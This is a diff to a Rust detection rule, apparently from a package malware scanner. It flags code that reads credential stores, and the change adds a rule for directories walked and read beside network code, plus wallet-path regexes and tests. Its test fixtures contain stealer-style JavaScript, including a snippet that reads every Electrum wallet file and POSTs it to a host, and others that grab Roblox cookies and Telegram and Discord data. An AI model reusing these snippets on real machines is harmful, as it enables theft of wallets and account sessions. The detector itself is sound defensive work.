@@ -11,8 +11,9 @@ crate::declare_rule! {
     /// messengers and games (Telegram `tdata`, Discord's Local Storage, Roblox Studio's session
     /// cookie, Steam's `loginusers.vdf`), wallet files and extension stores, the macOS keychain,
     /// another process's memory. `.npmrc` alone is `medium` (package tools read it); several
-    /// kinds together are a stealer's shopping list (`critical`), and so is reading another
-    /// process's memory through `/proc/PID/mem` (CI runner secret scraping).
+    /// kinds together are a stealer's shopping list (`critical`), and so is a store walked and
+    /// read file by file in a file that uses the network (a directory copied out whole), and
+    /// reading another process's memory through `/proc/PID/mem` (CI runner secret scraping).
     id: "sensitive-file-read",
     category: Data,
     severity: High,
@@ -29,7 +30,8 @@ crate::declare_rule! {
            "const out = cp.execSync('reg query \"HKCU\\\\Software\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com\" /v .ROBLOSECURITY').toString()",
            "const tg = path.join(appData, 'Telegram Desktop', 'tdata'); fs.readdirSync(tg)",
            "const d = path.join(base, 'discordptb', 'Local Storage', 'leveldb')",
-           "const jar = path.join(os.homedir(), 'Library/HTTPStorages/com.Roblox.RobloxPlayer.binarycookies')"],
+           "const jar = path.join(os.homedir(), 'Library/HTTPStorages/com.Roblox.RobloxPlayer.binarycookies')",
+           "const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))"],
     pass: ["// see man sshd: authorized_keys\nfs.writeFileSync(path.join(dir, 'known.json'), '{}')",
            // psl 1.15.0: the public suffix list names domains under the .aws TLD
            "module.exports = [\"s3-website.us-west-2.amazonaws.com\", \"labeling.ap-south-1.sagemaker.aws\", \"ngrok.io\"]",
@@ -70,7 +72,7 @@ const TARGETS: &[(&str, &str)] = &[
     ),
     (
         "wallets",
-        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum[/\\]wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
+        r"(?i)exodus\.wallet|wallet\.dat|\.config[/\\]solana[/\\]id\.json|keystore[/\\]|electrum(['\x22`]\s*,\s*['\x22`]|[/\\])wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa",
     ),
     ("keychain", r"login\.keychain"),
     (
@@ -79,6 +81,35 @@ const TARGETS: &[(&str, &str)] = &[
     ),
     ("shell history", r"\.bash_history|\.zsh_history"),
 ];
+
+/// How far (in bytes) after a directory listing a file read still belongs to the walk.
+const WALK_WINDOW: u32 = 1_500;
+
+/// Whether the file walks directories and reads the files it lists: a read within a few lines
+/// after a listing (`readdirSync(dir)` … `readFileSync(path.join(dir, name))`). Beside a
+/// credential store and network code, that is a store copied out whole.
+fn walks_and_reads(f: &crate::package::FileCtx) -> bool {
+    let Some(js) = &f.js else { return false };
+    let method = |p: &str| {
+        p.strip_prefix("fs.promises.")
+            .or_else(|| p.strip_prefix("fs/promises."))
+            .or_else(|| p.strip_prefix("fs."))
+            .map(str::to_string)
+    };
+    let lists: Vec<u32> = js
+        .calls
+        .iter()
+        .filter(|c| {
+            method(&c.path).is_some_and(|m| m.starts_with("readdir") || m.starts_with("opendir"))
+        })
+        .map(|c| c.off)
+        .collect();
+    !lists.is_empty()
+        && js.calls.iter().any(|c| {
+            method(&c.path).is_some_and(|m| m.starts_with("readFile") || m == "createReadStream")
+                && lists.iter().any(|&l| l <= c.off && c.off - l < WALK_WINDOW)
+        })
+}
 
 fn check(pkg: &Package, out: &mut Emitter) {
     static RES: std::sync::LazyLock<Vec<(&str, crate::rules::gate::Re)>> =
@@ -142,7 +173,9 @@ fn check(pkg: &Package, out: &mut Emitter) {
             kinds.push("npm tokens");
         }
         let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
-        let sev = if kinds.len() >= 3 && super::has_network(f)
+        let net = super::has_network(f);
+        let sev = if kinds.len() >= 3 && net
+            || net && walks_and_reads(f)
             || kinds.contains(&"process memory")
                 && crate::regex!(
                     r"/proc/\$\{[^}]+\}/mem|/proc/['\x22`]\s*\+\s*\w+\s*\+\s*['\x22`]/mem"
@@ -159,6 +192,36 @@ fn check(pkg: &Package, out: &mut Emitter) {
             f,
             off,
             format!("reads credential stores: {}", kinds.join(", ")),
+        );
+    }
+}
+
+#[cfg(test)]
+mod walk_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    #[test]
+    fn a_wallet_folder_walked_and_read_beside_network_code_is_critical() {
+        let src = "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const out = {}; for (const n of fs.readdirSync(w)) out[n] = fs.readFileSync(path.join(w, n), 'base64'); https.request({ host: h, method: 'POST' }).end(JSON.stringify(out))";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter().any(|h| h.severity == Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_wallet_folder_only_listed_beside_network_code_stays_high() {
+        // A wallet app's helper that counts the wallet files and checks for updates.
+        let pad = ".".repeat(1600);
+        let src = format!(
+            "const fs = require('fs'), https = require('https'); const w = path.join(os.homedir(), '.electrum', 'wallets'); const n = fs.readdirSync(w).length; https.get('https://updates.example.com/v', (r) => r.resume());\n/* {pad} */\nconst cfg = fs.readFileSync(path.join(__dirname, 'config.json'));"
+        );
+        let hits = run(&super::RULE, "index.js", &src);
+        assert!(
+            hits.iter().all(|h| h.severity < Severity::Critical),
+            "{hits:?}"
         );
     }
 }
